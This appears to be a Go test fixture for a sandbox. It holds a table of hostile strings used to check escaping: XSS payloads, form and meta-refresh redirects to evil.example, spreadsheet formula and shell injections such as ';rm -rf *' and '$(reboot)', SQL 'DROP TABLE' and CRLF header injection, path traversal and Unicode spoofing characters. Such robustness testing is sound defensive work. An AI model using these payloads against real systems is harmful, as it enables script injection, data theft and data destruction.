package sandbox

import "strings"

// HostileTurns is how many turns hostile text has: after all of them each field has
// had each of the strings.
const HostileTurns = 6

// hostileTexts are the strings, by what they aim at. Each is something that a page,
// a file, an address, a log or a terminal could take for more than text. A name with
// a slash has no page of its own, so those stand apart.
var hostileTexts = [HostileTurns][10]string{
	{ // markup
		`"><script>alert(1)`, `<img src=x onerror=alert(2)>`, `<svg onload=alert(3)>`, `<iframe srcdoc=x>`, `'><details open ontoggle=alert(4)>`,
		`<!--`, `]]><x-evil>`, `<plaintext>`, `<noscript><p title="<x-evil>">`, `<math><mtext><x-evil>`,
	},
	{ // markup with slashes, and ends of elements
		`</script><x-evil>`, `</title><x-evil>`, `</textarea><x-evil>`, `</select></form><form action=//evil.example>`, `</style><style>*{display:none}</style>`,
		`--><x-evil>`, `<x-evil/onclick=alert(5)>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content=0;url=//evil.example/>`, `</table></main><x-evil>`,
	},
	{ // attributes and addresses
		`" autofocus onfocus=alert(6) x="`, `' onmouseover='alert(7)`, "` onclick=alert(8) `", `javascript:alert(9)`, `JaVaScRiPt&colon;alert(10)`,
		"java\tscript:alert(11)", `vbscript:msgbox(12)`, `data:text;base64,PHgtZXZpbD4=`, `\\evil.example`, `&lt;x-evil&gt;&#60;x-evil&#62;`,
	},
	{ // formulas and commands
		`=HYPERLINK("x","y")`, `@SUM(1+1)`, `-2+3|calc `, `+cmd|' C'!A0`, "\t=1+1",
		`;rm -rf *`, "$(reboot)`reboot`", `' OR '1'='1`, `"; DROP TABLE audit; --`, `%0d%0aSet-Cookie: a=b`,
	},
	{ // templates, formats and names
		`{{7*7}}${7*7}#{7*7}`, `{ templ.Raw }`, `%s%n%d%!`, `../..`, `?next=x&lang=ko#f`,
		`__proto__`, `constructor`, `null`, `a,b;c|d`, `%2e%2e%2f%00`,
	},
	{ // letters
		"\u202e\u2066right", "\u2069\u202c", "\u200b\ufeff\u00ad", "é\u0301\U0001f469\u200d\U0001f680", "\u2028\u2029",
		"line\r\nlevel=ERROR msg=forged", "\u0430dmin", "\uff1cx-evil\uff1e", "\u0085\u00a0", strings.Repeat("long ", 800),
	},
}

// around is what stands before and after the n-th text of an answer: ten strings,
// another first from text to text.
func around(turn, n int) (before, after string) {
	texts := hostileTexts[(turn+n)%HostileTurns]
	first := n / HostileTurns % len(texts)
	all := append(texts[first:len(texts):len(texts)], texts[:first]...)
	return strings.Join(all[:5], ""), strings.Join(all[5:], "")
}

// HostileTexts are all the strings, for what a client itself writes: documents, tags.
func HostileTexts() []string {
	var all []string
	for _, texts := range hostileTexts {
		all = append(all, texts[:]...)
	}
	return all
}
